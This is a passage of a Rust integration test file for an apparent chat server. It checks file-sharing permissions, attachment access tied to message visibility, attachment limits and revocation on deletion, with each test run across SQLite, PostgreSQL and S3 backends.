    let (status, reply) = command(&alice, &group, &format!("/file {foreign}")).await;
    assert_eq!(status, 422, "{reply}");

    // Bob cannot read it until the plugin shares it with him.
    assert_eq!(download(&bob, &receipt, None).await.status(), 404);
    let (status, reply) = command(&alice, &group, &format!("/file {receipt} {bob_id}")).await;
    assert_eq!(status, 200, "{reply}");
    let res = download(&bob, &receipt, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
    // It cannot share with people it cannot see.
    let (status, reply) = command(
        &alice,
        &group,
        &format!("/file {receipt} 0190a0a0-0000-7000-8000-000000000000"),
    )
    .await;
    assert_eq!(status, 422, "{reply}");

    // A form's file field: the submitter's own file, or one shared with them.
    let (status, reply) = command(&bob, &group, "/claim").await;
    assert_eq!(status, 200, "{reply}");
    let form = reply["form"]["form"].clone();
    let token = reply["form"]["token"].as_str().unwrap().to_owned();
    let values = |file: &str| json!({"department": dept, "items": [{"qty": 2, "price": "3.50"}], "receipt": file});
    let submit = |client: &Client, values: Value| {
        let (client, form, token) = (client.clone(), form.clone(), token.clone());
        async move {
            client
                .post(
                    "/api/v1/forms",
                    json!({"token": token, "form": form, "values": values}),
                )
                .await
        }
    };
    let (_, own) = upload(&bob, Some("own.txt"), b"bob's".to_vec()).await;
    let (_, unshared) = upload(&alice, Some("secret.txt"), b"alice's".to_vec()).await;
    for refused in [
        unshared["id"].as_str().unwrap(),
        foreign.as_str(),
        "0190a0a0-0000-7000-8000-000000000000",
    ] {
        let answer = submit(&bob, values(refused)).await;
        assert_refused(&answer, 422, "invalid_reference");
    }
    for usable in [own["id"].as_str().unwrap(), receipt.as_str()] {
        let (status, reply) = submit(&bob, values(usable)).await;
        assert_eq!(status, 200, "{reply}");
        assert!(
            reply["ephemeral"].as_str().unwrap().contains(usable),
            "{reply}"
        );
    }
}

/// A file attached to a message is readable by whoever may read the message — the
/// messages' own policy — and by no one else; deleting the message ends that.
async fn attached_to_messages(on: On) {
    let (server, _objects) = start(on).await;
    let org = server.org("Acme").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;
    let (bob_id, bob) = server.person(&org, "Bob", "member").await;
    let (_, carol) = server.person(&org, "Carol", "member").await;
    let (_, team) = alice
        .post(
            "/api/v1/groups",
            json!({"kind": "team", "name": "Ops", "member_ids": [bob_id]}),
        )
        .await;
    let team_id = team["id"].as_str().unwrap();
    let (_, photo) = upload(&alice, Some("现场.png"), PNG.to_vec()).await;
    let (_, sheet) = upload(&alice, Some("plan.txt"), b"plan".to_vec()).await;
    let (photo_id, sheet_id) = (photo["id"].as_str().unwrap(), sheet["id"].as_str().unwrap());
    let post = |c: &Client, files: Vec<&str>, txn: &str| {
        let c = c.clone();
        let body = json!({"body": "see attached", "client_txn_id": txn, "attachments": files});
        async move {
            c.post(&format!("/api/v1/groups/{team_id}/messages"), body)
                .await
        }
    };
    // Bob cannot read Alice's files yet; he cannot attach them either.
    assert_eq!(
        bob.get(&format!("/api/v1/files/{photo_id}/info")).await.0,
        404
    );
    let (status, err) = post(&bob, vec![photo_id], "b-1").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (422, Some("unknown_file")),
        "{err}"
    );
    let (status, m) = post(&alice, vec![photo_id, sheet_id, photo_id], "a-1").await;
    assert_eq!(status, 201, "{m}");
    let attached = m["attachments"].as_array().unwrap();
    assert_eq!(attached.len(), 2, "each file once: {m}");
    assert_eq!(attached[0]["name"], "现场.png");
    assert_eq!(attached[0]["content_type"], "image/png");
    assert_eq!(attached[1]["size"], 4);
    let (_, history) = bob.get(&format!("/api/v1/groups/{team_id}/messages")).await;
    assert_eq!(history[0]["attachments"][0]["id"], photo_id, "{history}");
    // Bob reads the group, so he reads its files; Carol does not, so she gets 404.
    let res = bob
        .http
        .get(format!("{}/api/v1/files/{photo_id}", bob.base))
        .bearer_auth(bob.token.as_ref().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
    assert_eq!(
        carol.get(&format!("/api/v1/files/{sheet_id}/info")).await.0,
        404
    );
    let (status, _) = post(&carol, vec![sheet_id], "c-1").await;
    assert_eq!(status, 404, "Carol is not in the group");
    // At most ten files a message.
    let many: Vec<&str> = std::iter::repeat_n(photo_id, 11).collect();
    let (status, err) = post(&alice, many, "a-2").await;
    assert_eq!(
        (status, err["code"].as_str()),
        (422, Some("too_many_attachments")),
        "{err}"
    );
    // Deleting the message takes the files out of Bob's reach (not out of Alice's).
    let mid = m["id"].as_str().unwrap();
    assert_eq!(
        alice.delete(&format!("/api/v1/messages/{mid}")).await.0,
        204
    );
    assert_eq!(
        bob.get(&format!("/api/v1/files/{photo_id}/info")).await.0,
        404
    );
    assert_eq!(
        alice.get(&format!("/api/v1/files/{photo_id}/info")).await.0,
        200
    );
    let (_, history) = bob.get(&format!("/api/v1/groups/{team_id}/messages")).await;
    assert!(history[0].get("attachments").is_none(), "{history}");
    // A file attached and then deleted by its uploader leaves the message, not an error.
    let (status, m) = post(&alice, vec![sheet_id], "a-3").await;
    assert_eq!(status, 201, "{m}");
    assert_eq!(
        alice.delete(&format!("/api/v1/files/{sheet_id}")).await.0,
        204
    );
    assert_eq!(
        bob.get(&format!("/api/v1/files/{sheet_id}/info")).await.0,
        404
    );
    assert_eq!(
        bob.get(&format!("/api/v1/messages/{}", m["id"].as_str().unwrap()))
            .await
            .0,
        200
    );
}

/// Each test on SQLite and PostgreSQL with local files, and on PostgreSQL with files in
/// S3 (the cluster configuration).
macro_rules! every_store {
    ($($name:ident),+ $(,)?) => {$(
        mod $name {
            use crate::common::{Backend, external::skip_external, skip_postgres};
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                super::$name(super::On::Local(Backend::Sqlite)).await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                if skip_postgres() {
                    return;
                }
                super::$name(super::On::Local(Backend::Postgres)).await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres_s3() {
                if skip_postgres() || skip_external("an S3 server (moto)") {
                    return;
                }
                super::$name(super::On::S3(Backend::Postgres)).await;
            }
        }
    )+};
}

every_store!(
    attached_to_messages,
    round_trip,
    type_by_content,
    limits_and_quota,
    privacy_and_sharing,
    deletion,
    hostile_names,
    plugins_and_forms,
    thumbnails,
);
